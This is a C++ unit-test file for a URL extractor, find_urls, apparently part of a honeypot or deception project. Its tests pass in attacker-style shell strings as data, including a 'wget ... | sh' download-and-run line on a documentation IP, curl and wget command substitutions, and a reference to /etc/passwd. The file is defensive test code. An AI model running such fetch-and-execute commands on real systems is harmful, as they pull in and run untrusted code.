#include "api/find_urls.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace decnet::api {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::SizeIs;

TEST(FindUrls, EndWhereAShellEndsThem) {
  EXPECT_THAT(find_urls("cd /tmp; wget http://203.0.113.9/x.sh -O- | sh"),
              ElementsAre("http://203.0.113.9/x.sh"));
  EXPECT_THAT(find_urls("curl 'https://a.example/b?c=1&d=2';tftp://h/f&&ftp://h/g|sh"),
              ElementsAre("https://a.example/b?c=1&d=2", "tftp://h/f", "ftp://h/g"));
  EXPECT_THAT(find_urls("$(curl HTTP://h/a)`wget http://h/b`"),
              ElementsAre("HTTP://h/a", "http://h/b"));
}

TEST(FindUrls, EachOnce) {
  EXPECT_THAT(find_urls("http://h/a http://h/a http://h/b"),
              ElementsAre("http://h/a", "http://h/b"));
}

TEST(FindUrls, NothingThatOnlyLooksLikeOne) {
  for (const char* text : {"", "://", "http://", "file:///etc/passwd", "xhttp://h", "http:/ /h"})
    EXPECT_THAT(find_urls(text), IsEmpty()) << text;
}

TEST(FindUrls, AreBounded) {
  std::string many;
  for (int n = 0; n < 1'000; ++n) many += "http://h/" + std::to_string(n) + " ";
  EXPECT_THAT(find_urls(many), SizeIs(kUrlsMax));
  EXPECT_EQ(find_urls("http://h/" + std::string(10'000, 'x')).front().size(), kUrlBytesMax);
}

}  // namespace
}  // namespace decnet::api
